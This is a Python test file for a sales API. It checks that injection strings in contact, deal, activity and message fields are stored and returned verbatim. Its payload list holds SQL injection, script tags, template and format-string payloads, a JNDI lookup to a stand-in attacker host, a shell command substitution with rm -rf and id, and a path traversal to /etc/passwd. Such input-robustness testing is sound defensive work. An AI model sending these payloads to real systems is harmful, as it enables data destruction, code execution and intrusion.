"""Injection strings in free-text fields are data: stored, returned and published verbatim (2xx).

Nothing in the service interprets text (DynamoDB takes typed attribute values, responses are JSON), so
SQL, HTML, template, JNDI, shell and path payloads must round-trip byte for byte.
"""

from __future__ import annotations

import json
from typing import Any

from tests.support.api import Api
from tests.support.streams import events_of, outbox_rows

PAYLOADS = [
    "'; DROP TABLE deals;--",
    "<script>alert(1)</script>",
    "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /) `id`",
    "../../etc/passwd",
    '{"$gt": ""}',
    "%s%s%n %x",
    "Robert'); DELETE FROM contacts; --",
    "\\u0000 \\x00 \\n",
    "\u202eevil\u202c \u200bzero-width",
    "über 💥 東京",
]


def test_injection_strings_are_stored_and_returned_verbatim(api: Api, future: str) -> None:
    expected: dict[str, dict[str, Any]] = {}
    for number, text in enumerate(PAYLOADS):
        tag = text[:50]
        contact = api.post("/sales/contacts", {"kind": "person", "display_name": text, "tags": [tag]})
        assert contact.status == 201, (text, contact.body)
        assert (contact.data["display_name"], contact.data["tags"]) == (text, [tag])
        body = {"customer_id": contact.data["id"], "name": text, "value": 100 + number, "currency": "EUR"}
        deal = api.post("/sales/deals", {**body, "tags": [tag], "expected_close_date": future})
        assert deal.status == 201, (text, deal.body)
        field, command = ("note", "win") if number % 2 else ("reason", "lose")
        closed = api.post(f"/sales/deals/{deal.data['id']}/{command}", {field: text})
        assert closed.status == 200, (text, closed.body)
        expected[deal.data["id"]] = {
            "name": text,
            "tags": [tag],
            "note": text if command == "win" else None,
            "loss_reason": text if command == "lose" else None,
        }

    deals = api.get("/sales/deals", query={"page_size": 100}).data
    assert {deal["id"]: {key: deal[key] for key in expected[deal["id"]]} for deal in deals} == expected
    contacts = api.get("/sales/contacts", query={"page_size": 100}).data
    assert sorted(contact["display_name"] for contact in contacts) == sorted(PAYLOADS)
    one = next(iter(expected))
    assert api.get(f"/sales/deals/{one}").data["name"] == expected[one]["name"]
    for deal_id, fields in expected.items():
        created = json.loads(events_of(deal_id, "deal.created")[0]["data"])
        assert created["name"] == fields["name"], "published verbatim too"
    found = api.get("/sales/contacts", query={"q": "'; DROP TABLE"}).data
    assert [contact["display_name"] for contact in found] == ["'; DROP TABLE deals;--"], "search treats it as text"


def test_markup_in_activities_and_messages_is_stored_verbatim(api: Api, contact: dict[str, Any]) -> None:
    """Message bodies and activity texts are data too: a timeline, a thread and an email show them as text."""
    for payload in PAYLOADS:
        text = f"<b>Quote</b> {payload} <img src=x onerror=alert(1)>"
        logged = api.post(
            "/sales/activities",
            {"type": "note", "subject": payload, "body": text, "links": {"contact_id": contact["id"]}},
        )
        assert logged.status == 201, (payload, logged.body)
        read = api.get(f"/sales/activities/{logged.data['id']}").data
        assert (read["subject"], read["body"]) == (payload, text)
        thread = {"contact_id": contact["id"], "channel": "email", "address": "buyer@acme.example", "subject": payload}
        conversation = api.post("/sales/conversations", thread)
        assert conversation.status == 201 and conversation.data["subject"] == payload
        path = f"/sales/conversations/{conversation.data['id']}/messages"
        posted = api.post(path, {"direction": "in", "body": text})
        assert posted.status == 201 and posted.data["body"] == text
        assert [message["body"] for message in api.get(path).data] == [text]
    received = [json.loads(row["data"])["body"] for row in outbox_rows() if row["event_type"] == "message.received"]
    assert received == [f"<b>Quote</b> {payload} <img src=x onerror=alert(1)>" for payload in PAYLOADS]
